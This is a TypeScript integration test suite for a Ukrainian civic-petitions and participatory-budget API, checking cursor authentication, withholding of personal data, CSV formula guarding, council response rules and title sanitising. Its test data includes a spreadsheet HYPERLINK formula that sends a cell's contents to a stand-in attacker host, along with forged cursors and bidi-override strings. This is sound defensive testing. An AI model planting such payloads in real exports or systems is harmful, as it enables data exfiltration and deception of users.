/**
 * Issue 14 (integrity), the petition side and what every list, export and title shares: each
 * `describe` is one hole found by trying to break the system, closed, through the local gateway
 * against DynamoDB Local.
 */
import { randomUUID } from 'node:crypto';
import { PutCommand, UpdateCommand, type DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { budgetKeys } from '#shared/data/budgets.ts';
import { createDocumentClient } from '#shared/data/client.ts';
import { keys } from '#shared/data/keys.ts';
import { ternopil, ukStyle, type CommunityConfig } from '#shared/domain/community.ts';
import { routes } from '#shared/http/routes.ts';
import { createFixtures, type Fixtures } from '../support/fuzz-fixtures.ts';
import { openPetition, startTestSystem, type TestSystem } from '../support/system.ts';

/** Ternopil's rules, but a response is asked for at 2 signatures, so a test can reach it. */
const tiny: CommunityConfig = {
  ...ternopil,
  id: 'tiny-threshold',
  petitions: { ...ternopil.petitions, thresholds: [{ signatures: 2, purpose: 'response' }] },
};

let api: TestSystem;
let db: DynamoDBDocumentClient;
let fixtures: Fixtures;

beforeAll(async () => {
  api = await startTestSystem({ communities: [ternopil, ukStyle, tiny] });
  db = createDocumentClient(api.dynamoEndpoint);
  fixtures = await createFixtures(api);
});
afterAll(async () => {
  await api?.stop();
  db?.destroy();
});

const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value), 'utf8').toString('base64url');

/** Strict RFC 4180 parsing: any malformed quoting or a ragged row throws. */
const parseCsv = (text: string): string[][] => parse(text, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, bom: false });

async function createPetition(token: string, title: string, text = 'Текст петиції, достатньо довгий для правил платформи.') {
  const res = await api.request('POST', '/v1/petitions', { token, body: { title, text } });
  if (res.status !== 201) throw new Error(`create failed: ${res.status} ${res.text}`);
  return res.body.id as string;
}

describe('cursors are authenticated: a forged or tampered one is a 400 on every list route', () => {
  /** A budget whose voting has closed and whose results are published, so its ballot list is served. */
  async function closedBudget(): Promise<string> {
    const now = Date.now();
    const at = (days: number) => new Date(now + days * DAY).toISOString();
    const created = await api.request('POST', '/v1/budgets', {
      token: fixtures.tokens.council,
      body: {
        kind: 'public', title: 'Бюджет для перевірки курсорів', money: { currency: 'UAH', total: 1_000_000 },
        schedule: { submission: at(1), preSupport: null, review: at(2), voting: at(3), results: at(4), implementation: at(5) },
        ballotRules: { type: 'approval', projects: { min: 1, max: 3 } },
        rule: { name: 'greedy', rankBy: 'votes' },
      },
    });
    if (created.status !== 201) throw new Error(`budget: ${created.status} ${created.text}`);
    await db.send(new UpdateCommand({
      TableName: api.tableName, Key: budgetKeys.budget(created.body.id),
      UpdateExpression: 'SET schedule = :s',
      ExpressionAttributeValues: { ':s': { submission: at(-5), preSupport: null, review: at(-4), voting: at(-3), results: at(-2), implementation: at(-1) } },
    }));
    // Ballots are public once the results are published.
    const published = await api.request('POST', `/v1/budgets/${created.body.id}/results`, { token: fixtures.tokens.council });
    if (published.status >= 300) throw new Error(`publish: ${published.status} ${published.text}`);
    return created.body.id as string;
  }

  it('every route that takes a cursor refuses forged ones with a 400 problem, and accepts its own', async () => {
    // Enough items that every listing has a second page.
    await openPetition(api);
    await openPetition(api);
    await createPetition(await api.token({}), 'Ще одна петиція на модерації');
    const council = fixtures.tokens.council;
    await api.request('POST', `/v1/consultations/${fixtures.consultation}/comments`, { token: await api.token({}), body: { text: 'Ще один коментар' } });
    await api.request('POST', `/v1/consultations/${fixtures.consultation}/proposals`, { token: await api.token({}), body: { title: 'Ще одна пропозиція', text: 'Текст ще однієї пропозиції, досить довгий.' } });
    for (let i = 0; i < 2; i++) {
      await api.request('POST', `/v1/consultations/${fixtures.consultation}/response`, {
        token: await api.token({}), body: { answers: [{ questionId: 'support', optionIds: ['yes'] }, { questionId: 'ideas', text: `Ідея номер ${i}` }] },
      });
    }
    const budget = await closedBudget();
    // An author with two petitions: "my petitions" has a second page.
    const author = await api.token({ sub: `integrity-author-${Date.now()}` });
    for (const title of ['Перша петиція автора', 'Друга петиція автора']) {
      const made = await api.request('POST', '/v1/petitions', { token: author, body: { title, text: 'Текст петиції для перевірки курсорів.', draft: true } });
      expect(made.status, made.text).toBe(201);
    }
    await api.waitForStreams();

    const lists: { route: keyof typeof routes; path: string; token?: string }[] = [
      { route: 'listPetitions', path: '/v1/petitions?sort=newest' },
      { route: 'listPetitions', path: '/v1/petitions?sort=most-signed' },
      { route: 'listPetitions', path: '/v1/petitions?sort=ending-soon' },
      { route: 'moderationQueue', path: '/v1/moderation/petitions', token: fixtures.tokens.moderator },
      { route: 'contributionModerationQueue', path: '/v1/moderation/contributions?state=reported', token: fixtures.tokens.moderator },
      { route: 'contributionModerationQueue', path: '/v1/moderation/contributions?state=hidden', token: fixtures.tokens.moderator },
      { route: 'listSigners', path: `/v1/petitions/${fixtures.petitions.open}/signers` },
      { route: 'councilAlerts', path: '/v1/council/alerts', token: council },
      { route: 'councilAwaiting', path: '/v1/council/petitions', token: council },
      { route: 'councilAudit', path: '/v1/council/audit', token: council },
      { route: 'listConsultations', path: '/v1/consultations' },
      { route: 'listConsultationComments', path: `/v1/consultations/${fixtures.consultation}/comments` },
      { route: 'listConsultationProposals', path: `/v1/consultations/${fixtures.consultation}/proposals?sort=newest` },
      { route: 'listConsultationProposals', path: `/v1/consultations/${fixtures.consultation}/proposals?sort=most-supported` },
      { route: 'councilOpenAnswers', path: `/v1/council/consultations/${fixtures.consultation}/open-answers?questionId=ideas`, token: council },
      { route: 'listBudgets', path: '/v1/budgets' },
      { route: 'listBudgetBallots', path: `/v1/budgets/${budget}/ballots` },
      { route: 'listPetitions', path: '/v1/petitions?status=closed&sort=most-signed' },
      { route: 'searchCommunity', path: `/v1/search?q=${encodeURIComponent('лавок')}` },
      { route: 'myPetitions', path: '/v1/me/petitions', token: author },
    ];
    // Every route of the table that takes a cursor is in the list above (a new list route must be added).
    const withCursor = Object.entries(routes)
      .filter(([, definition]) => {
        const query = (definition as unknown as { request?: { query?: { shape?: Record<string, unknown> } } }).request?.query;
        return query?.shape !== undefined && 'cursor' in query.shape;
      })
      .map(([name]) => name)
      .sort();
    expect([...new Set(lists.map((l) => l.route))].sort()).toEqual(withCursor);

    const withQuery = (path: string, extra: string) => `${path}${path.includes('?') ? '&' : '?'}${extra}`;
    // Keys shaped like the store's, for the partitions these listings read: what an attacker would try.
    const forgedKeys = [
      { gsi1pk: keys.petitionListing('ternopil', 'open') },
      { gsi1pk: keys.petitionListing('ternopil', 'open'), gsi1sk: 'x', pk: 'PETITION#x' },
      { gsi1pk: keys.petitionListing('ternopil', 'moderation'), gsi1sk: '0', pk: 'x', sk: 'y' },
      { pk: 'anything', sk: 'x' },
      [0, 1, 'x', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
      { s: 0, k: { pk: `BUDGET#${budget}#BALLOTS#0` } },
    ];
    const sawFiveHundredBefore: string[] = [];
    for (const list of lists) {
      const opts = list.token ? { token: list.token } : {};
      const first = await api.request('GET', withQuery(list.path, 'limit=1'), opts);
      expect(first.status, `${list.path}: ${first.text}`).toBe(200);
      const real = first.body.nextCursor as string | null;
      const forged = [
        'not-a-cursor', '', '%%%', 'a.b.c', 'eyJ9', `${b64({})}.k1.${'A'.repeat(43)}`,
        ...forgedKeys.map(b64),
        ...forgedKeys.map((k) => `${b64(k)}.k1.${'A'.repeat(43)}`),
      ];
      if (real !== null) {
        // The API's own cursor still works...
        const second = await api.request('GET', withQuery(list.path, `limit=1&cursor=${encodeURIComponent(real)}`), opts);
        expect(second.status, `${list.path} own cursor: ${second.text}`).toBe(200);
        // ...but not with its value changed under the same tag, nor its tag changed.
        const [payload, keyId, mac] = real.split('.') as [string, string, string];
        const value = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
        forged.push(`${b64(Array.isArray(value) ? value.map(() => 0) : { ...value, extra: 'x' })}.${keyId}.${mac}`);
        forged.push(`${payload}.${keyId}.${mac.slice(0, -2)}${mac.endsWith('AA') ? 'BB' : 'AA'}`);
        forged.push(`${payload}.k9.${mac}`);
        forged.push(payload);
      }
      for (const cursor of forged.filter((c) => c !== '')) {
        const res = await api.request('GET', withQuery(list.path, `cursor=${encodeURIComponent(cursor)}`), opts);
        if (res.status >= 500) sawFiveHundredBefore.push(list.path);
        expect(res.status, `${list.path} cursor ${cursor.slice(0, 60)}: ${res.text}`).toBe(400);
        expect(res.headers.get('content-type')).toContain('application/problem+json');
        expect(res.body.type, list.path).toContain('invalid-cursor');
      }
    }
    expect(sawFiveHundredBefore).toEqual([]);

    // A cursor of one listing is refused by another (here: another sort order of the same petitions).
    const newest = await api.request('GET', '/v1/petitions?sort=newest&limit=1');
    expect(newest.body.nextCursor).not.toBeNull();
    const elsewhere = await api.request('GET', `/v1/petitions?sort=most-signed&limit=1&cursor=${encodeURIComponent(newest.body.nextCursor)}`);
    expect(elsewhere.status).toBe(400);
    const otherCommunity = await api.request('GET', `/v1/petitions?community=uk-style-demo&limit=1&cursor=${encodeURIComponent(newest.body.nextCursor)}`);
    expect(otherCommunity.status).toBe(400);
  }, 120_000);
});

describe('a petition rejected for personal data, offensive or unlawful content: title and text withheld, the reason shown', () => {
  it('withholds them in the detail and the export (JSON and CSV); other reasons keep the petition visible', async () => {
    const moderator = await api.token({ roles: ['moderator'] });
    const secretTitle = 'Іван Іванович Сидоренко, вул. Руська 5, кв. 12';
    const secretText = 'Його телефон +380 67 123 45 67 і номер паспорта НК 123456 — просимо перевірити.';
    const withheld: Record<string, string> = {};
    for (const reasonCode of ['personal-data', 'offensive', 'unlawful', 'duplicate']) {
      const id = await createPetition(await api.token({}), `${secretTitle} ${reasonCode}`, secretText);
      const rejected = await api.request('POST', `/v1/petitions/${id}/moderation`, {
        token: moderator, body: { decision: 'reject', reasonCode, explanation: 'Причина відхилення, зазначена модератором.' },
      });
      expect(rejected.status).toBe(200);
      withheld[reasonCode] = id;
    }
    for (const reasonCode of ['personal-data', 'offensive', 'unlawful']) {
      const id = withheld[reasonCode]!;
      const detail = await api.request('GET', `/v1/petitions/${id}`);
      expect(detail.status).toBe(200);
      expect(detail.body).toMatchObject({
        id, status: 'rejected', title: null, text: null, contentWithheld: true,
        rejection: { reasonCode, explanation: 'Причина відхилення, зазначена модератором.' },
      });
      const json = await api.request('GET', `/v1/petitions/${id}/export`);
      const csv = await api.request('GET', `/v1/petitions/${id}/export?format=csv`);
      const signers = await api.request('GET', `/v1/petitions/${id}/signers`);
      const list = await api.request('GET', '/v1/petitions?limit=100');
      for (const res of [detail, json, csv, signers, list]) {
        expect(res.text).not.toContain('Сидоренко');
        expect(res.text).not.toContain('380 67');
      }
      expect(json.body.petition).toMatchObject({ title: null, text: null, contentWithheld: true, rejection: { reasonCode } });
    }
    const duplicate = await api.request('GET', `/v1/petitions/${withheld.duplicate}`);
    expect(duplicate.body).toMatchObject({ title: `${secretTitle} duplicate`, text: secretText, contentWithheld: false, rejection: { reasonCode: 'duplicate' } });
  });
});

describe('one CSV writer for every export, with the formula guard', () => {
  it('the petition export: a title that is a formula is served as text, and the file parses strictly', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Натисніть")';
    const petition = await openPetition(api, { title });
    expect((await api.request('POST', `/v1/petitions/${petition.id}/signatures`, { token: await api.token({}) })).status).toBe(201);
    await api.waitForStreams();
    const csv = await api.request('GET', `/v1/petitions/${petition.id}/export?format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['petition_id', 'title', 'status', 'hour', 'signature_count']);
    expect(rows).toHaveLength(2);
    expect(rows[1]![1]).toBe(`'${title}`);
    expect(rows[1]![4]).toBe('1');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the consultation export: question and option texts that start like formulas are guarded', async () => {
    const created = await api.request('POST', '/v1/consultations', {
      token: fixtures.tokens.council,
      body: {
        title: 'Консультація з формулами',
        opensAt: new Date(Date.now() - HOUR).toISOString(),
        closesAt: new Date(Date.now() + DAY).toISOString(),
        resultsVisibility: 'live',
        questions: [
          { id: 'q1', type: 'single', text: '+Чи підтримуєте "план", так?', options: [{ id: 'a', text: '=1+2' }, { id: 'b', text: '@SUM(A1)' }, { id: 'c', text: '-2' }, { id: 'd', text: '\uFF1D1+2' }] },
          { id: 'q2', type: 'open', text: 'Ваші ідеї?\tНовий рядок', required: false },
        ],
      },
    });
    expect(created.status, created.text).toBe(201);
    const csv = await api.request('GET', `/v1/consultations/${created.body.id}/export?format=csv`);
    expect(csv.status, csv.text).toBe(200);
    const rows = parseCsv(csv.text);
    expect(rows[0]![0]).toBe('consultation_id');
    const byOption = Object.fromEntries(rows.slice(1).filter((r) => r[6] !== '').map((r) => [r[6], r]));
    expect(byOption.a![4]).toBe(`'+Чи підтримуєте "план", так?`);
    expect(byOption.a![7]).toBe(`'=1+2`);
    expect(byOption.b![7]).toBe(`'@SUM(A1)`);
    expect(byOption.c![7]).toBe(`'-2`);
    // The full-width equals sign, which some spreadsheets read as "=", is guarded too.
    expect(byOption.d![7]).toBe(`'\uFF1D1+2`);
    // Counts stay numbers.
    expect(byOption.a![8]).toBe('0');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('the council answers a petition once it reached the threshold that asks for a response (or closed)', () => {
  it('refuses below the threshold (409), a back-dated or future decidedAt (422); answers once reached, leaving the inbox', async () => {
    const council = await api.token({ roles: ['council'], community: tiny.id });
    const petition = await openPetition(api, { community: tiny.id });
    const body = { decision: 'supported', text: 'Рада підтримує цю петицію повністю.' };
    const early = await api.request('POST', `/v1/petitions/${petition.id}/response`, { token: council, body });
    expect(early.status).toBe(409);
    expect(early.body.type).toContain('threshold-not-reached');

    for (let i = 0; i < 2; i++) {
      expect((await api.request('POST', `/v1/petitions/${petition.id}/signatures`, { token: await api.token({ community: tiny.id }) })).status).toBe(201);
    }
    await api.waitForStreams();
    const reached = await api.request('GET', `/v1/petitions/${petition.id}`);
    const reachedAt = reached.body.thresholds[0].reachedAt as string;
    expect(reachedAt).not.toBeNull();
    const inbox = await api.request('GET', '/v1/council/petitions', { token: council });
    expect(inbox.body.items.map((p: { id: string }) => p.id)).toContain(petition.id);

    const backDated = await api.request('POST', `/v1/petitions/${petition.id}/response`, {
      token: council, body: { ...body, decidedAt: new Date(Date.parse(reachedAt) - DAY).toISOString() },
    });
    expect(backDated.status).toBe(422);
    expect(backDated.body.type).toContain('decided-too-early');
    const future = await api.request('POST', `/v1/petitions/${petition.id}/response`, {
      token: council, body: { ...body, decidedAt: new Date(Date.now() + DAY).toISOString() },
    });
    expect(future.status).toBe(422);
    expect(future.body.type).toContain('decided-in-future');

    const answered = await api.request('POST', `/v1/petitions/${petition.id}/response`, { token: council, body: { ...body, decidedAt: reachedAt } });
    expect(answered.status).toBe(200);
    expect(answered.body.response).toMatchObject({ decision: 'supported', decidedAt: reachedAt });
    const after = await api.request('GET', '/v1/council/petitions', { token: council });
    expect(after.body.items.map((p: { id: string }) => p.id)).not.toContain(petition.id);
  });

  it('a closed petition below the threshold may be answered, dated no earlier than its closing', async () => {
    const council = await api.token({ roles: ['council'], community: tiny.id });
    const petition = await openPetition(api, { community: tiny.id });
    const closedAt = new Date(Date.now() - HOUR).toISOString();
    await db.send(new UpdateCommand({
      TableName: api.tableName, Key: keys.petition(petition.id),
      UpdateExpression: 'SET closesAt = :past', ExpressionAttributeValues: { ':past': closedAt },
    }));
    const body = { decision: 'noted', text: 'Рада взяла петицію до відома.' };
    const tooEarly = await api.request('POST', `/v1/petitions/${petition.id}/response`, { token: council, body: { ...body, decidedAt: new Date(Date.parse(closedAt) - HOUR).toISOString() } });
    expect(tooEarly.status).toBe(422);
    expect((await api.request('POST', `/v1/petitions/${petition.id}/response`, { token: council, body })).status).toBe(200);
    // Signatures given before the close but counted after the response cross the threshold late:
    // the crossing's inbox entry does not bring an answered petition back into the inbox.
    await db.send(new PutCommand({
      TableName: api.tableName,
      Item: { ...keys.awaiting(petition.id), type: 'awaiting', petitionId: petition.id, gsi1pk: keys.awaitingListing(tiny.id), gsi1sk: `${new Date().toISOString()}#${petition.id}` },
    }));
    const inbox = await api.request('GET', '/v1/council/petitions?limit=100', { token: council });
    expect(inbox.body.items.map((p: { id: string }) => p.id)).not.toContain(petition.id);
  });
});

describe('birth dates: only real calendar dates between 1900-01-01 and today count', () => {
  it('year 0000, an impossible date or a future date is an unknown age: refused where an age rule applies (403 age-unknown)', async () => {
    const petition = await openPetition(api);
    for (const birthdate of ['0000-01-01', '2010-13-45', '1899-12-31', '2999-01-01', '1990-02-29']) {
      const token = await api.token({ sub: `odd-birthdate-${randomUUID()}`, birthdate });
      const res = await api.request('POST', `/v1/petitions/${petition.id}/signatures`, { token });
      expect(res.status, birthdate).toBe(403);
      expect(res.body.type, birthdate).toContain('age-unknown');
      expect(res.body.detail, birthdate).toContain('1900-01-01');
    }
    const adult = await api.token({ birthdate: '1992-02-29' });
    expect((await api.request('POST', `/v1/petitions/${petition.id}/signatures`, { token: adult })).status).toBe(201);
  });
});

describe('a moderator cannot decide on their own petition', () => {
  it('publishing or rejecting one’s own petition is a 403; another moderator may', async () => {
    const sub = `moderator-author-${randomUUID()}`;
    const self = await api.token({ sub, roles: ['citizen', 'moderator'] });
    const id = await createPetition(self, 'Петиція самого модератора');
    const publish = await api.request('POST', `/v1/petitions/${id}/moderation`, { token: self, body: { decision: 'publish' } });
    expect(publish.status).toBe(403);
    expect(publish.body.type).toContain('own-petition');
    const reject = await api.request('POST', `/v1/petitions/${id}/moderation`, { token: self, body: { decision: 'reject', reasonCode: 'other', explanation: 'Сам відхиляю' } });
    expect(reject.status).toBe(403);
    expect((await api.request('GET', `/v1/petitions/${id}`)).status).toBe(404);
    const other = await api.token({ roles: ['moderator'] });
    expect((await api.request('POST', `/v1/petitions/${id}/moderation`, { token: other, body: { decision: 'publish' } })).status).toBe(200);
  });
});

describe('titles: NFC, no bidi controls, visible letters', () => {
  const invisible = ['\u200B'.repeat(12), '\u200B\u200C\u200D\u2060\uFEFF'.repeat(3), '\u00AD'.repeat(12), '1234567890 ...'];
  const bidi = ['Петиція \u202Eпро парк і лавки', '\u2066Більше лавок у парку\u2069', 'Більше лавок\u200F у парку', 'Більше лавок\u061C у парку', '\u202AБільше лавок у парку'];

  it('refused (400, nothing written) for petitions, consultations, proposals, budgets and budget projects; stored NFC', async () => {
    const citizen = await api.token({});
    const council = fixtures.tokens.council;
    const budget = await api.request('POST', '/v1/budgets', {
      token: council,
      body: {
        kind: 'public', title: 'Бюджет для перевірки назв', money: { currency: 'UAH', total: 1_000_000 },
        schedule: Object.fromEntries(['submission', 'review', 'voting', 'results', 'implementation'].map((k, i) => [k, new Date(Date.now() + (i === 0 ? -HOUR : i * DAY)).toISOString()])),
        ballotRules: { type: 'approval', projects: { min: 1, max: 3 } },
        rule: { name: 'greedy', rankBy: 'votes' },
      },
    });
    expect(budget.status, budget.text).toBe(201);
    const attempts: { what: string; send: (title: string) => Promise<{ status: number; body: any }> }[] = [
      { what: 'petition', send: (title) => api.request('POST', '/v1/petitions', { token: citizen, body: { title, text: 'Текст петиції, достатньо довгий.' } }) },
      {
        what: 'consultation',
        send: (title) => api.request('POST', '/v1/consultations', {
          token: council,
          body: { title, opensAt: new Date(Date.now() + HOUR).toISOString(), closesAt: new Date(Date.now() + DAY).toISOString(), resultsVisibility: 'live', questions: [{ id: 'q', type: 'open', text: 'Ваші ідеї?' }] },
        }),
      },
      { what: 'proposal', send: (title) => api.request('POST', `/v1/consultations/${fixtures.consultation}/proposals`, { token: citizen, body: { title, text: 'Текст пропозиції, достатньо довгий.' } }) },
      {
        what: 'budget',
        send: (title) => api.request('POST', '/v1/budgets', {
          token: council,
          body: { kind: 'public', title, money: { total: 1000 }, schedule: {}, ballotRules: { type: 'approval', projects: { min: 1, max: 1 } }, rule: { name: 'greedy', rankBy: 'votes' } },
        }),
      },
      { what: 'project', send: (title) => api.request('POST', `/v1/budgets/${budget.body.id}/projects`, { token: citizen, body: { title, description: 'Опис проєкту, достатньо довгий для правил.', cost: 1000 } }) },
    ];
    for (const { what, send } of attempts) {
      for (const title of [...invisible, ...bidi]) {
        const res = await send(title);
        expect(res.status, `${what} ${JSON.stringify(title)}`).toBe(400);
        expect(res.body.errors.some((e: { path: string }) => e.path === 'title'), `${what} ${JSON.stringify(title)}`).toBe(true);
      }
    }
    // Decomposed letters are stored composed (NFC).
    const decomposed = 'Пропоную кафе\u0301 в парку і\u0308';
    const created = await api.request('POST', '/v1/petitions', { token: citizen, body: { title: decomposed, text: 'Текст петиції, достатньо довгий.' } });
    expect(created.status).toBe(201);
    expect(created.body.title).toBe(decomposed.normalize('NFC'));
    expect(created.body.title).not.toBe(decomposed);
  });
});
